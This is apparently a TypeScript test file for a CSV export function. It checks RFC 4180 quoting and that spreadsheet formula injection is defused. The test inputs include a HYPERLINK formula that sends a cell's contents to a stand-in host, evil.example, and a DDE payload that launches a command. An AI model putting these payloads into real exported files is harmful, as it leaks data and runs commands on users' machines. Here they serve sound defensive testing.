import * as fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { csvText } from './csv-text.ts'

/** Reads CSV by the letter of RFC 4180, and by nothing that writes it. */
const readCsv = (text: string): string[][] => {
  const rows: string[][] = []
  let row: string[] = []
  let at = text.startsWith('\uFEFF') ? 1 : 0
  while (at < text.length) {
    let field = ''
    if (text[at] === '"') {
      at += 1
      while (text[at] !== '"' || text[at + 1] === '"') {
        if (at >= text.length) throw new Error('A quoted field does not end.')
        field += text[at] ?? ''
        at += text[at] === '"' ? 2 : 1
      }
      at += 1
    } else {
      while (at < text.length && !',\r'.includes(text[at] ?? '')) {
        field += text[at] ?? ''
        at += 1
      }
    }
    row.push(field)
    if (text[at] === ',') at += 1
    else {
      expect(text.slice(at, at + 2)).toBe('\r\n')
      at += 2
      rows.push(row)
      row = []
    }
  }
  return rows
}

const RUNS = /^[\s\p{C}]*[=+\-@]/u

describe('CSV', () => {
  it('is written by RFC 4180', () => {
    expect(
      csvText([
        ['Name', 'Address'],
        ['São "P"', 'a,b\r\nc'],
        ['plain', ''],
      ]),
    ).toBe('\uFEFFName,Address\r\n"São ""P""","a,b\r\nc"\r\nplain,\r\n')
    expect(csvText([['']])).toBe('\uFEFF""\r\n')
  })

  it.each([
    '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "=cmd|' /C calc'!A0",
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    ' =1',
    '\u200B=1',
    '＝1',
  ])('defuses the formula %j', (formula) => {
    expect(readCsv(csvText([['x', formula]]))).toEqual([['x', `'${formula}`]])
  })

  it('loses nothing, runs nothing and keeps every row as long as it was', () => {
    const field = fc.oneof(fc.string({ unit: 'grapheme' }), fc.stringMatching(/^[=+\-@,;"'\r\n\t a]{0,6}$/))
    const table = fc
      .integer({ min: 1, max: 4 })
      .chain((width) => fc.array(fc.array(field, { minLength: width, maxLength: width })))
    fc.assert(
      fc.property(table, (rows) => {
        const read = readCsv(csvText(rows))
        expect(
          read.map((fields) =>
            fields.map((text) => text.replace(/^'(?=[\s\p{C}]*[=+\-@＝＋－＠]|[\t\r\n\0])/u, '')),
          ),
        ).toEqual(
          rows.map((fields) =>
            fields.map((text) => text.replace(/^'(?=[\s\p{C}]*[=+\-@＝＋－＠]|[\t\r\n\0])/u, '')),
          ),
        )
        expect(read.flat().filter((text) => RUNS.test(text))).toEqual([])
      }),
      { numRuns: 500 },
    )
  })
})
